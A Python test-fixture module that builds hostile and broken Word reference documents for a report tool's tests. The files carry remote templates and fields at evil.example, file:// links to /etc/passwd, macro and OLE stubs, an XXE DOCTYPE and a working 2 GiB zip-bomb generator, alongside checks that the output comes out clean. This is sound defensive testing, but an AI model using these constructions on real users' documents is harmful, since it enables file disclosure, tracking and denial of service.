"""Bad-input catalogue rows for reference documents (``--reference-docx``), and the hostile, odd and
broken references themselves, built here from python-docx's own blank document so that the unit tests
(tests/writers/test_docx_reference.py) use the very same files.

Every builder is cheap (the 2 GiB zip bomb is a 2 MB file made by repeating one deflate block) and runs
only when a case is set up, never when the catalogue is gathered.
"""

from __future__ import annotations

import io
import os
import re
import struct
import zipfile
import zlib
from collections.abc import Callable
from functools import cache
from pathlib import Path

from tests.catalogue_case import Case
from tests.conftest import SHIPPED

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RT = R + "/"
PR = "http://schemas.openxmlformats.org/package/2006/relationships"
WML = "application/vnd.openxmlformats-officedocument.wordprocessingml."
DOTX = WML + "template.main+xml"
DOCM = "application/vnd.ms-word.document.macroEnabled.main+xml"
EVIL_TEMPLATE = "http://evil.example/evil.dotm"
WEB_LINK = "https://example.org/letterhead"
GIB2 = 2 ** 31
Change = bytes | Callable[[bytes], bytes] | None


@cache
def blank() -> bytes:
    """python-docx's blank document: styles, numbering, settings, theme, fonts, and a bibliography
    custom XML part, as Word writes them, but none of the tool's own styles."""
    import docx

    out = io.BytesIO()
    docx.Document().save(out)
    return out.getvalue()


def rewrite(data: bytes, changes: dict[str, Change]) -> bytes:
    """``data`` (a zip) with parts replaced (bytes), edited (a function of the old bytes), removed
    (None) or added; the order of the other entries is kept."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        names = source.namelist()
        for name in names + [n for n in changes if n not in names]:
            if name not in changes:
                target.writestr(name, source.read(name))
                continue
            change = changes[name]
            if callable(change):
                target.writestr(name, change(source.read(name)))
            elif change is not None:
                target.writestr(name, change)
    return out.getvalue()


def add_rels(*rels: tuple[str, str, str, bool]) -> Callable[[bytes], bytes]:
    """An edit adding relationships ``(id, type, target, external)`` to a .rels part."""
    def edit(xml: bytes) -> bytes:
        extra = "".join(f'<Relationship Id="{i}" Type="{t if "/" in t else RT + t}" Target="{target}"'
                        + (' TargetMode="External"' if external else "") + "/>" for i, t, target, external in rels)
        return xml.replace(b"</Relationships>", extra.encode() + b"</Relationships>")
    return edit


def new_rels(*rels: tuple[str, str, str, bool]) -> bytes:
    return add_rels(*rels)(f'<?xml version="1.0"?><Relationships xmlns="{PR}"></Relationships>'.encode())


def insert(before: bytes, text: str) -> Callable[[bytes], bytes]:
    def edit(xml: bytes) -> bytes:
        assert before in xml, before
        return xml.replace(before, text.encode() + before, 1)
    return edit


def content_type(part: str, ctype: str) -> Callable[[bytes], bytes]:
    """An edit giving ``part`` the content type ``ctype`` in [Content_Types].xml."""
    def edit(xml: bytes) -> bytes:
        text = xml.decode()
        text = re.sub(f'<Override PartName="/{re.escape(part)}" ContentType="[^"]*"/>', "", text)
        return text.replace("</Types>", f'<Override PartName="/{part}" ContentType="{ctype}"/></Types>').encode()
    return edit


def png() -> bytes:
    """A valid 1x1 PNG."""
    def chunk(kind: bytes, payload: bytes) -> bytes:
        return struct.pack(">I", len(payload)) + kind + payload + struct.pack(">I", zlib.crc32(kind + payload))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 6, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\x00\x1f\x3a\x5f\xff")) + chunk(b"IEND", b""))


def _picture(embed: str, link: str = "", click: str = "") -> str:
    linked = f' r:link="{link}"' if link else ""
    clicked = (f'<a:hlinkClick xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" r:id="{click}"/>'
               if click else "")
    return (
        '<w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing">'
        f'<wp:extent cx="914400" cy="914400"/><wp:docPr id="1" name="Logo">{clicked}</wp:docPr>'
        '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
        '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        '<pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        '<pic:nvPicPr><pic:cNvPr id="1" name="logo.png"/><pic:cNvPicPr/></pic:nvPicPr>'
        f'<pic:blipFill><a:blip r:embed="{embed}"{linked}/><a:stretch><a:fillRect/></a:stretch></pic:blipFill>'
        '<pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="914400" cy="914400"/></a:xfrm>'
        '<a:prstGeom prst="rect"/></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>')


def _header(secret: str) -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:hdr xmlns:w="{W}" xmlns:r="{R}" '
        'xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:v="urn:schemas-microsoft-com:vml">'
        f'<w:p>{_picture("rIdLogo", "rIdLinked", "rIdFile")}<w:r><w:t>Ministry letterhead</w:t></w:r></w:p>'
        f'<w:p><w:hyperlink r:id="rIdWeb"><w:r><w:t>our site</w:t></w:r></w:hyperlink>'
        f'<w:hyperlink r:id="rIdFile"><w:r><w:t>a local file</w:t></w:r></w:hyperlink></w:p>'
        '<w:p><w:r><w:object><v:shape id="ole"><v:imagedata r:id="rIdLogo" o:title=""/></v:shape>'
        '<o:OLEObject Type="Embed" ProgID="Package" ShapeID="ole" r:id="rIdOle"/></w:object></w:r></w:p>'
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDEPICTURE </w:instrText></w:r>'
        f'<w:r><w:instrText>"file://{secret}" \\d </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        '<w:r><w:t>picture</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
        '<w:fldSimple w:instr=" INCLUDETEXT &quot;http://evil.example/x.docx&quot; "><w:r><w:t>kept text</w:t></w:r>'
        '</w:fldSimple></w:p>'
        '<w:p><w:r><w:pict><v:shape id="s"><v:imagedata src="http://evil.example/vml.png"/></v:shape></w:pict></w:r></w:p>'
        '</w:hdr>').encode()


def hostile(secret: str = "/etc/passwd") -> bytes:
    """A reference with everything the issue lists: an attached template on the web, external image and
    file links, an OLE object, macros, custom XML with data, a mail-merge source, and a header that
    holds its own logo and web link (kept) beside a linked picture, a local-file link, an OLE object and
    fields that load files (all removed)."""
    data = blank()
    return rewrite(data, {
        "word/settings.xml": insert(b"<w:defaultTabStop", '<w:attachedTemplate r:id="rIdTpl"/>'
                                    '<w:mailMerge><w:mainDocumentType w:val="formLetters"/>'
                                    '<w:dataSource r:id="rIdData"/></w:mailMerge>'),
        "word/_rels/settings.xml.rels": new_rels(("rIdTpl", "attachedTemplate", EVIL_TEMPLATE, True),
                                                 ("rIdData", "mailMergeSource", f"file://{secret}", True)),
        "word/_rels/document.xml.rels": add_rels(
            ("rIdExtImg", "image", f"file://{secret}", True),
            ("rIdOle", "oleObject", "embeddings/oleObject1.bin", False),
            ("rIdVba", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin", False),
            ("rIdCx", "customXml", "../customXml/item9.xml", False),
            ("rIdHdr", "header", "header1.xml", False),
            ("rIdSub", "subDocument", "http://evil.example/sub.docx", True)),
        "word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0 OLE",
        "word/vbaProject.bin": b"Attribute VB_Name = \"Evil\"",
        "customXml/item9.xml": b"<?xml version='1.0'?><secrets><salary>100</salary></secrets>",
        "word/document.xml": insert(b"<w:pgSz", '<w:headerReference w:type="default" r:id="rIdHdr"/>'),
        "word/header1.xml": _header(secret),
        "word/_rels/header1.xml.rels": new_rels(
            ("rIdLogo", "image", "media/logo.png", False),
            ("rIdLinked", "image", "http://evil.example/track.png", True),
            ("rIdWeb", "hyperlink", WEB_LINK, True), ("rIdFile", "hyperlink", f"file://{secret}", True),
            ("rIdOle", "oleObject", "embeddings/oleObject1.bin", False)),
        "word/media/logo.png": png(),
        "[Content_Types].xml": content_type("word/header1.xml", WML + "header+xml"),
    })


def dotx() -> bytes:
    """A Word template (.dotx): the main part has the template content type."""
    return rewrite(blank(), {"[Content_Types].xml": content_type("word/document.xml", DOTX)})


def docm() -> bytes:
    """A macro-enabled document (.docm) with its macros."""
    return rewrite(blank(), {
        "[Content_Types].xml": content_type("word/document.xml", DOCM),
        "word/vbaProject.bin": b"Attribute VB_Name = \"AutoOpen\"",
        "word/_rels/document.xml.rels": add_rels(
            ("rIdVba", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin", False)),
    })


def without_numbering() -> bytes:
    """A reference without numbering.xml (python-docx cannot add one)."""
    return rewrite(blank(), {
        "word/numbering.xml": None,
        "word/_rels/document.xml.rels": lambda xml: re.sub(rb'<Relationship [^>]*numbering"[^>]*/>', b"", xml),
        "[Content_Types].xml": lambda xml: re.sub(rb'<Override PartName="/word/numbering.xml"[^>]*/>', b"", xml),
    })


def with_doctype() -> bytes:
    """styles.xml with a DOCTYPE declaring entities (XXE and billion laughs start like this)."""
    return rewrite(blank(), {"word/styles.xml": lambda xml: xml.replace(
        b"?>", b'?><!DOCTYPE w:styles [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY a "aaaa">]>', 1)})


def truncated_styles() -> bytes:
    return rewrite(blank(), {"word/styles.xml": lambda xml: xml[:400]})


def without_content_types() -> bytes:
    return rewrite(blank(), {"[Content_Types].xml": None})


def _deflate_zeros(size: int) -> bytes:
    # One compressed block of 1 MiB of zeros, flushed so that it does not depend on what came before,
    # repeated: a valid deflate stream of ``size`` zeros made in milliseconds.
    block_size = 1024 * 1024
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = compressor.compress(b"\0" * block_size) + compressor.flush(zlib.Z_FULL_FLUSH)
    return block * (size // block_size) + compressor.flush(zlib.Z_FINISH)


def zip_bomb(declared: int = GIB2, part: str = "word/styles.xml") -> bytes:
    """The blank reference with ``part`` replaced by 2 GiB of zeros deflated to about 2 MB.

    ``declared`` is the unpacked size the archive states: the truth (2 GiB) or a lie (small), which
    the tool must also survive. The checksum is not computed (a reader that gets to check it has
    already inflated everything, which is the failure this file tests for).
    """
    stream = _deflate_zeros(GIB2)
    marker = b"\x00MARKER\x00" * 4
    out = io.BytesIO(rewrite(blank(), {part: None}))
    with zipfile.ZipFile(out, "a", zipfile.ZIP_STORED) as target:
        target.writestr(part, marker + b"\0" * (len(stream) - len(marker)))
    data = bytearray(out.getvalue())
    start = data.index(marker)  # the stored bytes: put the deflate stream there and say it is deflated
    data[start:start + len(stream)] = stream
    name = part.encode()
    for signature, method_at in ((b"PK\x03\x04", 8), (b"PK\x01\x02", 10)):
        at = 0
        while True:
            at = data.index(signature, at)
            name_at = at + (30 if signature == b"PK\x03\x04" else 46)
            if data[name_at:name_at + len(name)] == name:
                break
            at += 4
        struct.pack_into("<H", data, at + method_at, zipfile.ZIP_DEFLATED)
        struct.pack_into("<I", data, at + method_at + 14, declared)  # uncompressed size, after crc and csize
    return bytes(data)


# --------------------------------------------------------------------------- checking an output


def external_targets(data: bytes) -> list[tuple[str, str, str]]:
    """Every external relationship in a package: (rels part, type, target)."""
    found = []
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        for name in package.namelist():
            if name.endswith(".rels"):
                for match in re.finditer(rb"<Relationship [^>]*>", package.read(name)):
                    tag = match.group().decode()
                    if 'TargetMode="External"' in tag:
                        kind = re.search(r'Type="([^"]*)"', tag)
                        target = re.search(r'Target="([^"]*)"', tag)
                        found.append((name, kind.group(1) if kind else "", target.group(1) if target else ""))
    return found


def assert_clean(data: bytes) -> None:
    """What may never reach an output built on a hostile reference."""
    for rels, kind, target in external_targets(data):
        assert kind == RT + "hyperlink" and target.startswith(("http://", "https://", "mailto:")), (rels, target)
        assert "/header" in rels or "/footer" in rels or rels == "word/_rels/document.xml.rels", rels
    from reports.writers.docx.attachments import NAMESPACE

    with zipfile.ZipFile(io.BytesIO(data)) as package:
        # Our own Custom XML part (the data file and build record, reports.provenance) is the one allowed;
        # nothing of the reference's may come through.
        ours = [n for n in package.namelist() if re.fullmatch(r"customXml/(_rels/)?item(Props)?\d+\.xml(\.rels)?", n)]
        assert all(NAMESPACE.encode() in package.read(n) for n in ours if re.fullmatch(r"customXml/item\d+\.xml", n))
        names = [n for n in package.namelist() if n not in ours]
        assert not [n for n in names if re.search(r"vba|customxml|embeddings|activex|oleObject", n, re.I)], names
        content = b"".join(package.read(n) for n in names)
    for needle in (b"attachedTemplate", b"mailMerge", b"evil.example", b"file://", b"oleObject", b"OLEObject",
                   b"INCLUDEPICTURE", b"INCLUDETEXT", b"macroEnabled", b"template.main"):
        assert needle not in content, needle


def _check_output(folder: Path, output: str) -> None:
    assert_clean((folder / "out.docx").read_bytes())


# --------------------------------------------------------------------------- fields, notes and settings

UNC = "\\\\\\\\host\\\\share\\\\toc.docx"  # \\host\share\toc.docx, as Word writes it in a field


def _run(xml: str) -> str:
    return f"<w:r>{xml}</w:r>"


def _complex(*pieces: str, result: str = "shown", end: bool = True) -> str:
    """A complex field: begin, the instruction in ``pieces`` (one run each), separate, result, end."""
    runs = [_run('<w:fldChar w:fldCharType="begin"/>'),
            *(_run(f'<w:instrText xml:space="preserve">{p}</w:instrText>') for p in pieces)]
    if end:
        runs += [_run('<w:fldChar w:fldCharType="separate"/>'), _run(f"<w:t>{result}</w:t>"),
                 _run('<w:fldChar w:fldCharType="end"/>')]
    return "".join(runs)


def _simple(instruction: str, result: str = "shown") -> str:
    return f'<w:fldSimple w:instr="{instruction}">{_run(f"<w:t>{result}</w:t>")}</w:fldSimple>'


def with_header(*paragraphs: str) -> bytes:
    """The blank reference with a header holding ``paragraphs`` (their inner XML)."""
    body = "".join(f"<w:p>{p}</w:p>" for p in paragraphs)
    return rewrite(blank(), {
        "word/_rels/document.xml.rels": add_rels(("rIdHdr", "header", "header1.xml", False)),
        "word/document.xml": insert(b"<w:pgSz", '<w:headerReference w:type="default" r:id="rIdHdr"/>'),
        "word/header1.xml": f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:hdr xmlns:w="{W}" '
                            f'xmlns:r="{R}">{body}</w:hdr>'.encode(),
        "[Content_Types].xml": content_type("word/header1.xml", WML + "header+xml"),
    })


def outward_fields() -> bytes:
    """Fields that load files or show the reader's clock, one unterminated, beside fields that are safe."""
    return with_header(
        _complex(' INCLUDEPICTURE "http://evil.example/p.png" \\d ', end=False) + _run("<w:t>after</w:t>"),
        _simple(f' RD &quot;{UNC}&quot; '),
        _complex(" HYPERLINK ", f'"{UNC}" '),
        _simple(" DATE \\@ &quot;d MMMM yyyy&quot; "),
        _simple(" PAGE ", "7") + _complex(' HYPERLINK \\l "top" ', result="to the top"))


def split_unterminated_field() -> bytes:
    """The variant: an INCLUDETEXT split over three runs that is never ended, and a stray end mark."""
    return with_header(_run('<w:fldChar w:fldCharType="end"/>') + _run("<w:t>kept</w:t>"),
                       _simple(' HYPERLINK &quot;http://evil.example/&quot; \\l &quot;x&quot; '),
                       _complex(" INCLUDE", 'TEXT "\\\\\\\\evil-host', '\\\\x.docx" ', end=False))


def notes_and_variables() -> bytes:
    """A reference with its own footnote, document variables and "update fields on opening"."""
    notes = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:footnotes xmlns:w="{W}">'
             '<w:footnote w:type="separator" w:id="-1"><w:p><w:r><w:separator/></w:r></w:p></w:footnote>'
             '<w:footnote w:type="continuationSeparator" w:id="0"><w:p><w:r><w:continuationSeparator/></w:r>'
             '</w:p></w:footnote><w:footnote w:id="1"><w:p><w:r><w:t>REFERENCE-OWN-NOTE</w:t></w:r></w:p>'
             '</w:footnote></w:footnotes>')
    return rewrite(blank(), {
        "word/settings.xml": _settings_with(b'<w:updateFields w:val="true"/>',
                                            b'<w:docVars><w:docVar w:name="secret" w:val="DOCVAR-VALUE"/></w:docVars>'),
        "word/_rels/document.xml.rels": add_rels(("rIdNotes", "footnotes", "footnotes.xml", False)),
        "word/footnotes.xml": notes.encode(),
        "[Content_Types].xml": content_type("word/footnotes.xml", WML + "footnotes+xml"),
    })


def _settings_with(*elements: bytes) -> Callable[[bytes], bytes]:
    # Appended last: Word's schema order is not checked for what the cleaning removes anyway.
    def edit(xml: bytes) -> bytes:
        return xml.replace(b"</w:settings>", b"".join(elements) + b"</w:settings>")
    return edit


def _parts(folder: Path) -> bytes:
    with zipfile.ZipFile(folder / "out.docx") as package:
        return b"".join(package.read(n) for n in package.namelist())


def _instructions(folder: Path) -> list[str]:
    """Every field instruction in the output (simple and complex), the writer's own included."""
    found = []
    for part in re.findall(rb"<w:instrText[^>]*>([^<]*)</w:instrText>|w:instr=\"([^\"]*)\"", _parts(folder)):
        found.append(b"".join(part).decode())
    return found


def _fields_checked(folder: Path, output: str) -> None:
    content, instructions = _parts(folder), " | ".join(_instructions(folder))
    for needle in (b"evil.example", b"host"):
        assert needle not in content, needle
    for word in ("RD ", "DATE", "INCLUDE", "share"):
        assert word not in instructions, (word, instructions)
    assert b"after" in content and "PAGE" in instructions and 'HYPERLINK \\l "top"' in instructions, instructions


def _split_checked(folder: Path, output: str) -> None:
    content, instructions = _parts(folder), " | ".join(_instructions(folder))
    for needle in (b"evil", b"x.docx"):
        assert needle not in content, needle
    for word in ("INCLUDE", "TEXT", "HYPERLINK"):
        assert word not in instructions, (word, instructions)
    assert b"kept" in content


def header_pictures() -> bytes:
    """A header holding a PNG that carries a text chunk and a trailer (kept, encoded again) and an EMF
    picture (a metafile that cannot be checked: removed, with the warning)."""
    from tests.catalogue_images import png_with_passengers

    data = with_header(_picture("rIdLogo"), _picture("rIdMeta"))
    return rewrite(data, {
        "word/_rels/header1.xml.rels": new_rels(("rIdLogo", "image", "media/logo.png", False),
                                                ("rIdMeta", "image", "media/mark.emf", False)),
        "word/media/logo.png": png_with_passengers(),
        "word/media/mark.emf": b"\x01\x00\x00\x00" + b"\x00" * 36 + b" EMF" + b"\x00" * 40,
    })


def _pictures_checked(folder: Path, output: str) -> None:
    from tests.catalogue_images import MARKER

    with zipfile.ZipFile(folder / "out.docx") as package:
        media = {n: package.read(n) for n in package.namelist() if n.startswith("word/media/")}
    assert [n for n in media if n.endswith(".png")], "the header's PNG went"
    assert not [n for n in media if n.endswith(".emf")], "the EMF was kept"
    assert all(MARKER not in data for data in media.values()), "the PNG's own bytes were copied"


def _notes_checked(folder: Path, output: str) -> None:
    content = _parts(folder)
    for needle in (b"REFERENCE-OWN-NOTE", b"DOCVAR-VALUE", b"docVars", b"updateFields"):
        assert needle not in content, needle


# --------------------------------------------------------------------------- catalogue rows


def _ref(builder: Callable[[], bytes]) -> Callable[[Path], None]:
    def setup(folder: Path) -> None:
        (folder / "ref.docx").write_bytes(builder())
    return setup


def _hostile_beside_the_secret(folder: Path) -> None:
    (folder / "ref.docx").write_bytes(hostile(str(folder.parent / "outside" / "secret.txt")))


_ARGS = ("docx", "{file}", "--reference-docx", "{dir}/ref.docx", "-o", "{dir}/out.docx")
_DATA = SHIPPED.read_bytes()


def _case(name: str, what: str, builder: Callable[[], bytes], message: str, code: int = 1,
          **more: object) -> Case:
    extra = _check_output if code == 0 else None
    return Case(f"ref-{name}", what, "a.yaml", _DATA, message, code, args=_ARGS, setup=_ref(builder),
                extra=extra, **more)  # type: ignore[arg-type]


_FIELDS_WARNING = "ref.docx: warning: removed from the reference document, so that nothing in it reaches the output: "

CASES: list[Case] = [
    Case("ref-fields-outward", "a reference whose header holds an unterminated INCLUDEPICTURE of a web address, "
         "RD and HYPERLINK fields naming a share (\\\\host\\share), and DATE, beside PAGE and an internal "
         "HYPERLINK (kept)", "a.yaml", _DATA, _FIELDS_WARNING + "fields not known to be safe (DATE, HYPERLINK to "
         "another file and 1 more); unterminated fields (INCLUDEPICTURE)", 0, args=_ARGS,
         setup=_ref(outward_fields), extra=_fields_checked),
    Case("ref-fields-split-unterminated", "a reference whose header holds an INCLUDETEXT of a share split over "
         "three runs and never ended, a stray end mark, and a HYPERLINK to the web with \\l", "a.yaml", _DATA,
         _FIELDS_WARNING + "fields not known to be safe (HYPERLINK to another file); unterminated fields "
         "(INCLUDETEXT)", 0, args=_ARGS, setup=_ref(split_unterminated_field), extra=_split_checked),
    Case("ref-header-pictures", "a reference whose header holds a PNG with a text chunk and a trailer after IEND "
         "(encoded again) and an EMF picture (removed)", "a.yaml", _DATA, _FIELDS_WARNING + "pictures that are "
         "not a sound PNG or JPEG (mark.emf)", 0, args=_ARGS, setup=_ref(header_pictures), extra=_pictures_checked),
    Case("ref-notes-and-variables", "a reference with its own footnote, document variables (w:docVars) and "
         "w:updateFields", "a.yaml", _DATA, _FIELDS_WARNING + "the setting that updates every field on opening; "
         "document variables", 0, args=_ARGS, setup=_ref(notes_and_variables), extra=_notes_checked),
    # Its links and fields point at the secret beside the case folder: the check that the secret never
    # reaches an output then also shows that nothing in the reference was followed.
    Case("ref-hostile", "a reference DOCX with an attached template on the web, external links, macros, "
         "OLE objects, custom XML and fields that load files (all removed; the header's logo kept)", "a.yaml",
         _DATA, "ref.docx: warning: removed from the reference document, so that nothing in it reaches the "
         "output: embedded objects (OLE, ActiveX); macros; custom XML data; the attached template", 0, args=_ARGS,
         extra=_check_output, setup=_hostile_beside_the_secret),
    _case("dotx", "a Word template (.dotx) as the reference (used as a document)", dotx, "wrote", 0),
    _case("docm", "a macro-enabled document (.docm) as the reference (used without its macros)", docm,
          "ref.docx: warning: removed from the reference document, so that nothing in it reaches the output: "
          "macros", 0),
    _case("no-numbering", "a reference DOCX without numbering.xml (a numbering part is added)",
          without_numbering, "wrote", 0),
    _case("no-styles", "a reference DOCX without the tool's own styles (they are added)", blank, "wrote", 0),
    _case("doctype", "a reference DOCX whose styles.xml declares entities (XXE)", with_doctype,
          "ref.docx: word/styles.xml: has a DOCTYPE or entity declaration"),
    _case("truncated", "a reference DOCX with a truncated styles.xml", truncated_styles,
          "ref.docx: word/styles.xml: not well-formed XML (line 2"),
    _case("no-content-types", "a reference DOCX without [Content_Types].xml", without_content_types,
          "ref.docx: [Content_Types].xml: missing"),
    _case("not-zip", "a text file named .docx as the reference", lambda: b"just some text\n",
          "ref.docx: not a Word document (.docx): not a zip package"),
    _case("old-doc", "an old binary Word file (.doc) or a password-protected one as the reference",
          lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 4096,
          "ref.docx: not a Word document (.docx): an old binary .doc or a password-protected file"),
    Case("ref-fifo", "a FIFO named ref.docx as the reference (never opened blocking)", "a.yaml", _DATA,
         "ref.docx: is not a regular file (a device, pipe or socket)", args=_ARGS,
         setup=lambda folder: os.mkfifo(folder / "ref.docx")),
    _case("zip-bomb", "a 2 MB reference DOCX whose styles.xml unpacks to 2 GiB", zip_bomb,
          "ref.docx: word/styles.xml: unpacks to 2,147,483,648 bytes, over the limit", process=True,
          max_rss_mb=300),
    _case("zip-bomb-lying", "a 2 MB reference DOCX whose styles.xml unpacks to 2 GiB but claims 1 KB",
          lambda: zip_bomb(declared=1000), "ref.docx: word/styles.xml: damaged in the zip package",
          process=True, max_rss_mb=300),
]
